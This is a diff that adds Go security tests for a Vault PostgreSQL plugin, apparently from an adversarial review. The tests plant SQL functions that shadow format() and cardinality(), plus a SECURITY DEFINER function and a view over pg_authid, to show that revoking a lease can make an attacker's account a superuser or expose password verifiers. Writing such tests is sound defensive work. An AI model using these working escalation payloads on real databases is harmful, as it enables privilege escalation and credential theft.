@@ -1,0 +1,156 @@
+package postgres
+
+// Adversarial review of issue 7: each test here is an attack that once worked
+// (or still does, where it is skipped with the finding).
+
+import (
+	"context"
+	"fmt"
+	"testing"
+
+	"github.com/hashicorp/vault/sdk/database/dbplugin/v5"
+	"github.com/jackc/pgx/v5/pgxpool"
+)
+
+// isolatedDB creates a database of its own, so that objects a test plants
+// in its public schema cannot reach other tests, and returns its name and a
+// superuser pool to it.
+func isolatedDB(t *testing.T) (string, *pgxpool.Pool) {
+	t.Helper()
+	a := admin(t)
+	name := "rv_" + randSuffix()
+	execSQL(t, a, "CREATE DATABASE "+quoteIdent(name))
+	t.Cleanup(func() {
+		_, _ = a.Exec(context.Background(), "DROP DATABASE IF EXISTS "+quoteIdent(name)+" WITH (FORCE)")
+	})
+	cfg, err := pgxpool.ParseConfig(pg.URL(pg.SuperUser, pg.SuperPassword, name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := pgxpool.NewWithConfig(testCtx(t), cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(p.Close)
+	return name, p
+}
+
+// attackerAccount is a login role the holder of a lease also controls (an
+// ordinary application account): the prize of an escalation.
+func attackerAccount(t *testing.T, a *pgxpool.Pool) (string, string) {
+	t.Helper()
+	user, password := "acct_"+randSuffix(), "Aa1-"+randSuffix()
+	execSQL(t, a, fmt.Sprintf("CREATE ROLE %s LOGIN PASSWORD %s", quoteIdent(user), quoteLiteral(password)))
+	t.Cleanup(func() { _, _ = a.Exec(context.Background(), "DROP ROLE IF EXISTS "+quoteIdent(user)) })
+	return user, password
+}
+
+func isSuper(t *testing.T, a *pgxpool.Pool, user string) bool {
+	t.Helper()
+	var super bool
+	if err := a.QueryRow(testCtx(t), "SELECT rolsuper FROM pg_roles WHERE rolname = $1", user).Scan(&super); err != nil {
+		t.Fatal(err)
+	}
+	return super
+}
+
+// TestReviewRevocationIgnoresPlantedFunctions: the revocation runs as the
+// plugin's admin (often a superuser) with the session's search_path, and its
+// PL/pgSQL calls format() and cardinality() unqualified. A dynamic user that
+// may create objects in a schema on that path (public: any role on
+// PostgreSQL 14 and older; here granted by the role's statements) plants an
+// overload that matches better than pg_catalog's variadic/polymorphic one,
+// and the revocation runs it as the admin: the user's other account becomes
+// a superuser.
+func TestReviewRevocationIgnoresPlantedFunctions(t *testing.T) {
+	dbname, a := isolatedDB(t)
+	db := newDB(t, map[string]interface{}{"connection_url": pg.TemplateURL(dbname)})
+	acct, _ := attackerAccount(t, a)
+
+	req := newUserReq(createStmt, `GRANT CREATE ON SCHEMA public TO "{{name}}";`)
+	resp, err := db.NewUser(testCtx(t), req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	user := resp.Username
+	c, err := pg.Connect(testCtx(t), user, req.Password, dbname)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Each overload does the real work, so nothing looks wrong, and tries
+	// to make acct a superuser, which succeeds only when a superuser calls.
+	plant := fmt.Sprintf(`
+CREATE FUNCTION public.format(f text, a text) RETURNS text LANGUAGE plpgsql AS $f$
+BEGIN
+	BEGIN EXECUTE 'ALTER ROLE %[1]s SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	RETURN pg_catalog.format(f, a);
+END $f$;
+CREATE FUNCTION public.cardinality(x int[]) RETURNS int LANGUAGE plpgsql AS $f$
+BEGIN
+	BEGIN EXECUTE 'ALTER ROLE %[1]s SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	RETURN pg_catalog.cardinality(x);
+END $f$;`, quoteIdent(acct))
+	if _, err := c.Exec(testCtx(t), plant); err != nil {
+		t.Fatal(err)
+	}
+	_ = c.Close(testCtx(t))
+
+	if _, err := db.DeleteUser(testCtx(t), dbplugin.DeleteUserRequest{Username: user}); err != nil {
+		t.Fatalf("DeleteUser: %v", err)
+	}
+	if isSuper(t, a, acct) {
+		t.Fatalf("the revocation ran a function the revoked user planted in public: %s is now a superuser", acct)
+	}
+}
+
+// TestReviewReassignedCodeRunsAsAdmin: the default revocation hands what the
+// user owns to reassign_owned_to, by default the admin Vault connects as,
+// usually a superuser. Code the user wrote then runs with the admin's
+// rights: a SECURITY DEFINER function (EXECUTE is granted to PUBLIC by
+// default) and a view (it reads with its owner's rights) the user left
+// behind give any other account the admin's powers once the lease is
+// revoked. The same holds for trigger, index-expression and default
+// functions the admin later runs (autovacuum, ANALYZE, REINDEX as the new
+// table owner).
+func TestReviewReassignedCodeRunsAsAdmin(t *testing.T) {
+	t.Skip("finding: REASSIGN OWNED to a privileged reassign_owned_to (default: the connecting superuser) turns the revoked user's SECURITY DEFINER functions and views into the admin's; see the review report")
+	dbname, a := isolatedDB(t)
+	db := newDB(t, map[string]interface{}{"connection_url": pg.TemplateURL(dbname)})
+	acct, acctPassword := attackerAccount(t, a)
+
+	req := newUserReq(createStmt, `GRANT CREATE ON SCHEMA public TO "{{name}}";`)
+	resp, err := db.NewUser(testCtx(t), req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := pg.Connect(testCtx(t), resp.Username, req.Password, dbname)
+	if err != nil {
+		t.Fatal(err)
+	}
+	plant := fmt.Sprintf(`
+CREATE FUNCTION public.later() RETURNS void SECURITY DEFINER LANGUAGE plpgsql AS $f$
+BEGIN EXECUTE 'ALTER ROLE %s SUPERUSER'; END $f$;
+CREATE VIEW public.peek AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;
+GRANT SELECT ON public.peek TO PUBLIC;`, quoteIdent(acct))
+	if _, err := c.Exec(testCtx(t), plant); err != nil {
+		t.Fatal(err)
+	}
+	_ = c.Close(testCtx(t))
+
+	if _, err := db.DeleteUser(testCtx(t), dbplugin.DeleteUserRequest{Username: resp.Username}); err != nil {
+		t.Fatalf("DeleteUser: %v", err)
+	}
+
+	ac, err := pg.Connect(testCtx(t), acct, acctPassword, dbname)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ac.Close(context.Background())
+	var secret string
+	if err := ac.QueryRow(testCtx(t), "SELECT coalesce(rolpassword, '') FROM public.peek WHERE rolname = $1", pg.SuperUser).Scan(&secret); err == nil {
+		t.Errorf("after the revocation, %s reads the superuser's password verifier through the revoked user's view (%.14s…)", acct, secret)
+	}
+	if _, err := ac.Exec(testCtx(t), "SELECT public.later()"); err == nil && isSuper(t, a, acct) {
+		t.Errorf("after the revocation, %s became a superuser through the revoked user's SECURITY DEFINER function", acct)
+	}
+}
